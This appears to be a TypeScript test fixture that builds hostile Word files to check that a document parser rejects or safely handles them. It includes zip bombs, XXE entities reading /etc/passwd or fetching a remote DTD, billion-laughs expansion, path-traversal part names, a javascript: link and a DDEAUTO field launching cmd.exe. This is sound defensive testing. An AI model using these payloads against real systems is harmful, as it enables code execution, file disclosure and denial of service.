import { zipSync } from 'fflate';
import { makeDocx, paragraph, run } from '../../support/make-docx.ts';
import { type Expected, type HostileFile, mebibyte, read, words } from './hostile-file.ts';
import { markup } from './markup.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const main = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

const docx = (id: string, expected: Expected, toBytes: () => Uint8Array) =>
  ({ id: `docx-${id}`, format: 'docx', toBytes, ...expected }) as const;

const toXml = (text: string) => text.replace(/[&<>]/gu, (sign) => `&#${sign.charCodeAt(0)};`);
const plain = paragraph(words);

/** A document.xml of its own, whole. */
const withDocument = (xml: string) => makeDocx('', { parts: { 'word/document.xml': xml } });
const body = (inner: string, type = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${type}<w:document ${main}><w:body>${inner}</w:body></w:document>`;

const laughs = `<!DOCTYPE w [<!ENTITY a "ha">${Array.from({ length: 10 }, (_, at) => `<!ENTITY a${at} "${`&${at === 0 ? 'a' : `a${at - 1}`};`.repeat(10)}">`).join('')}]>`;
const relations = (inner: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;

/** The archive with the sizes of its parts, where they are said, changed to `size`. */
function lie(archive: Uint8Array, size: number): Uint8Array {
  const bytes = Buffer.from(archive);
  for (let at = bytes.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1'))
    bytes.writeUInt32LE(size, at + 24);
  for (let at = bytes.indexOf('PK\x03\x04', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\x03\x04', at + 4, 'latin1'))
    bytes.writeUInt32LE(size, at + 22);
  return bytes;
}

const zeros = (size: number) => new Uint8Array(size).fill(0x20);

export const docxFiles: readonly HostileFile[] = [
  ...Object.entries(markup).map(([name, text]) =>
    docx(`words-${name}`, read, () =>
      makeDocx(plain + paragraph(toXml(text.toWellFormed().replace(/[^\P{Cc}\n\t]/gu, ' ')))),
    ),
  ),
  docx('bomb-flat', { refused: 'too-large-document' }, () =>
    makeDocx(plain, { parts: { 'word/footnotes.xml': zeros(150 * mebibyte) } }),
  ),
  docx('bomb-many-parts', { refused: 'too-large-document' }, () =>
    makeDocx(plain, {
      parts: Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`word/part${at}.xml`, zeros(4 * mebibyte)])),
    }),
  ),
  docx('bomb-lying', { refused: 'damaged-document' }, () =>
    lie(makeDocx(plain, { parts: { 'word/footnotes.xml': zeros(150 * mebibyte) } }), 10),
  ),
  docx('bomb-claims', { refused: 'too-large-document' }, () => lie(makeDocx(plain), 0xfffffffe)),
  docx('bomb-nested', read, () => {
    let inner = zipSync({ 'a.bin': zeros(50 * mebibyte) });
    for (let at = 0; at < 5; at += 1) inner = zipSync({ 'a.zip': inner, 'b.zip': inner });
    return makeDocx(plain, { parts: { 'word/embeddings/a.zip': inner } });
  }),
  docx('bomb-media', read, () => makeDocx(plain, { parts: { 'word/media/image1.png': zeros(200 * mebibyte) } })),
  docx('thousands-of-parts', read, () =>
    makeDocx(plain, {
      parts: Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`word/media/${at}.png`, ''])),
    }),
  ),
  docx('slip-names', read, () =>
    makeDocx(plain, {
      parts: { '../../canary': 'x', '/tmp/canary': 'x', 'C:\\canary': 'x', 'word/../../canary.xml': 'x', 'a\nb': 'x' },
    }),
  ),
  docx('prototype-names', read, () => makeDocx(plain, { parts: { constructor: 'x', 'toString/prototype': 'x' } })),
  docx('entity-of-a-file', { refused: 'damaged-document' }, () =>
    withDocument(body(paragraph(`${words} &x;`), '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
  ),
  docx('entity-of-a-parameter', { refused: 'damaged-document' }, () =>
    withDocument(body(plain, '<!DOCTYPE w [<!ENTITY % x SYSTEM "http://canary.example/x.dtd"> %x;]>')),
  ),
  docx('entity-laughs', { refused: 'damaged-document' }, () => withDocument(body(paragraph('&a9;'), laughs))),
  docx('entity-in-utf-16', { refused: 'damaged-document' }, () =>
    makeDocx('', {
      parts: {
        'word/document.xml': Buffer.from(`\ufeff${body(paragraph('&a9;'), laughs)}`, 'utf16le'),
      },
    }),
  ),
  docx('entity-in-relationships', { refused: 'damaged-document' }, () =>
    makeDocx(plain, { parts: { 'word/_rels/document.xml.rels': laughs + relations('') } }),
  ),
  docx('relationships-outside', read, () =>
    makeDocx(plain, {
      parts: {
        'word/_rels/document.xml.rels': relations(
          ['attachedTemplate', 'image', 'hyperlink', 'oleObject', 'frame', 'subDocument']
            .map(
              (type, at) =>
                `<Relationship Id="x${at}" Type="${office}/${type}" Target="http://canary.example/${type}" TargetMode="External"/>`,
            )
            .join('') +
            `<Relationship Id="f" Type="${office}/image" Target="file:///etc/passwd" TargetMode="External"/>`,
        ),
      },
    }),
  ),
  docx('picture-of-a-file', read, () =>
    makeDocx(
      `${plain}<w:p><w:r><w:drawing xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:r="${office}"><wp:inline><a:graphic><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="f"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
      {
        parts: {
          'word/_rels/document.xml.rels': relations(
            `<Relationship Id="f" Type="${office}/image" Target="file:///etc/passwd" TargetMode="External"/>`,
          ),
        },
      },
    ),
  ),
  docx('main-part-elsewhere', read, () =>
    makeDocx(plain, {
      parts: {
        '_rels/.rels': relations(
          `<Relationship Id="r1" Type="${office}/officeDocument" Target="../../../etc/passwd"/>`,
        ),
      },
    }),
  ),
  docx('link-that-runs', read, () =>
    makeDocx(`${plain}<w:p><w:hyperlink r:id="j" xmlns:r="${office}">${run('press here')}</w:hyperlink></w:p>`, {
      parts: {
        'word/_rels/document.xml.rels': relations(
          `<Relationship Id="j" Type="${office}/hyperlink" Target="javascript:canary(1)" TargetMode="External"/>`,
        ),
      },
    }),
  ),
  docx('field-that-runs', read, () =>
    makeDocx(
      `${plain}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ),
  ),
  docx('macros', { refused: 'document-with-macros' }, () => makeDocx(plain, { parts: { 'word/vbaProject.bin': 'x' } })),
  docx('macros-elsewhere', { refused: 'document-with-macros' }, () =>
    makeDocx(plain, { parts: { 'x/VBAProject.BIN': 'x' } }),
  ),
  docx('object', { ...read, doubt: 'left-out-parts' }, () =>
    makeDocx(plain, { parts: { 'word/embeddings/oleObject1.bin': 'x' } }),
  ),
  docx('style-map', read, () => makeDocx(plain, { parts: { 'mammoth/style-map': 'p => script:fresh' } })),
  docx('style-names', read, () =>
    makeDocx(`${plain}<w:p><w:pPr><w:pStyle w:val="&quot;&gt;&lt;script&gt;"/></w:pPr>${run('More.')}</w:p>`),
  ),
  docx('nested-tables', { refused: 'damaged-document' }, () => {
    const deep = 20_000;
    return makeDocx(`${'<w:tbl><w:tr><w:tc>'.repeat(deep)}${plain}${'</w:tc></w:tr></w:tbl>'.repeat(deep)}`);
  }),
  docx('nested-runs', { refused: 'damaged-document' }, () => {
    const deep = 100_000;
    return makeDocx(`<w:p>${'<w:ins>'.repeat(deep)}${run(words)}${'</w:ins>'.repeat(deep)}</w:p>`);
  }),
  docx('unclosed', { refused: 'damaged-document' }, () => withDocument(body('<w:p><w:r>'.repeat(1000)).slice(0, -100))),
  docx('wide-table', read, () =>
    makeDocx(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>${plain}</w:tc></w:tr></w:tbl>`),
  ),
  docx('other-bytes', { refused: 'damaged-document' }, () =>
    makeDocx('', { parts: { 'word/document.xml': Buffer.alloc(4096, 0xff) } }),
  ),
  docx('control-characters', read, () => makeDocx(paragraph(`${words}\u0000\u0001`))),
  docx('only-an-end', { refused: 'not-its-format' }, () => Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1')),
];

/** Whose text alone needs more memory than a thread has. */
export const greedyDocx: HostileFile = docx('bomb-text', { refused: 'damaged-document' }, () =>
  makeDocx(paragraph('money '.repeat(10 * mebibyte))),
);
